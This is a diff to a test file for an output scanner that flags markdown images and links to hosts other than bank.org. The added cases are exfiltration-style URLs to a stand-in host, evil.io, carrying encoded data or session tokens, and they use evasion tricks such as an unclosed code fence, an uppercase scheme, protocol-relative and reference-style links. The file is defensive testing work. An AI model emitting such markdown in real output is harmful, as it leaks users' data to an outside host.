@@ -26,6 +26,11 @@ SCANNER = unsafe_output(["bank.org"])
         ("![x](https://evil.io/p.png?d=YW5hQGJhbmsub3Jn)", "picture of an unlisted host"),
         ('<img src="https://evil.io/p?data=0123456789">', "picture of an unlisted host"),
         ("see [more](https://evil.io/?session=abcdef0123)", "link of an unlisted host"),
+        # signs of code that nothing closes are no code to who shows it
+        ("a ``` b ![x](https://evil.io/p?d=0123456789ab)", "picture of an unlisted host"),
+        ("![x](HTTPS://evil.io/p?d=0123456789ab)", "picture of an unlisted host"),
+        ("![x](//evil.io/p?d=0123456789ab)", "picture of an unlisted host"),
+        ("![x][r]\n\n[r]: https://evil.io/p?d=0123456789ab", "link of an unlisted host"),
         ("![x](https://bank.org.evil.io/p?d=0123456789ab)", "picture of an unlisted host"),
     ],
 )
